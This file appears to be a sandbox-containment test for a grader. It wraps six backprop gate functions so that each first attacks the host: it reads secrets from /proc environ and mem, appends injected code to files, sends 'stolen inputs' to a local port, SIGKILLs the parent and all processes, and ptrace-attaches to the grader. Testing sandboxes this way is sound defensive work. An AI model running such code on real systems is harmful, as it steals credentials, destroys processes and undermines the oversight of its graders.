# Overrides of the solution: every gate first attacks the machine, then answers correctly.
# An attack that works inside the sandbox raises "BREACH" (the gate loses its points); its
# effects outside (files, signals, connections, IPC) are checked by the test afterwards.
# The test fills in the names in capitals.
import ctypes
import os
import signal
import socket

_solution = {name: globals()[name] for name in ("mul_backward", "add_backward",
             "exp_backward", "scale_backward", "offset_backward", "relu_backward")}


def _read_secrets():
    for path in SECRETS + [f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/mem"]:
        try:
            with open(path, "rb") as f:
                if b"SECRET" in f.read(1 << 16):
                    raise RuntimeError("BREACH: read " + path)
        except OSError:
            pass


def _write_everywhere():
    for path in WRITABLE_TARGETS:
        try:
            with open(path, "a") as f:
                f.write("import os; os.environ['BACKPROP_PWNED'] = '1'\n")
        except OSError:
            pass


def _network():
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"stolen inputs")
        raise RuntimeError("BREACH: connected to the grader's machine")
    except OSError:
        pass


def _signals():
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass


def _ipc():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget(SHM_KEY, 1 << 20, 0o1000 | 0o666)  # IPC_CREAT: would outlive the run
    try:
        with open("/dev/shm/" + MARKER, "wb") as f:
            f.write(b"x" * (1 << 20))
    except OSError:
        pass


def _ptrace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, os.getppid(), 0, 0) == 0:  # PTRACE_ATTACH
        raise RuntimeError("BREACH: attached to the grader")


def _attacked(name, attack):
    def gate(*args):
        attack()
        return _solution[name](*args)
    return gate


mul_backward = _attacked("mul_backward", _read_secrets)
add_backward = _attacked("add_backward", _write_everywhere)
exp_backward = _attacked("exp_backward", _network)
scale_backward = _attacked("scale_backward", _signals)
offset_backward = _attacked("offset_backward", _ipc)
relu_backward = _attacked("relu_backward", _ptrace)
